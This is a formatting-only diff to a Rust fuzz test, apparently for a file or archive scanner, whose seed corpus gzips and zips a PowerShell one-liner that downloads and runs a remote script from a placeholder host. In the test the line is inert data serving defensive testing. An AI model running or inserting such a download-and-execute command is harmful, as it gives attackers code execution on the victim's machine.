@@ -42,7 +42,8 @@ impl Rng {
 
 fn seeds() -> Vec<Vec<u8>> {
     let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
-    gz.write_all(b"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')").unwrap();
+    gz.write_all(b"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')")
+        .unwrap();
     let gz = gz.finish().unwrap();
     let mut w = ::zip::ZipWriter::new(Cursor::new(Vec::new()));
     let opts = ::zip::write::SimpleFileOptions::default();
@@ -84,7 +85,9 @@ fn fuzz_corpus_runs_clean() {
             }
             1 => {
                 let n = 20 + rng.below(300);
-                (0..n).map(|_| ALPHABET[rng.below(ALPHABET.len())]).collect()
+                (0..n)
+                    .map(|_| ALPHABET[rng.below(ALPHABET.len())])
+                    .collect()
             }
             _ => {
                 let seed = seeds[rng.below(seeds.len())].clone();
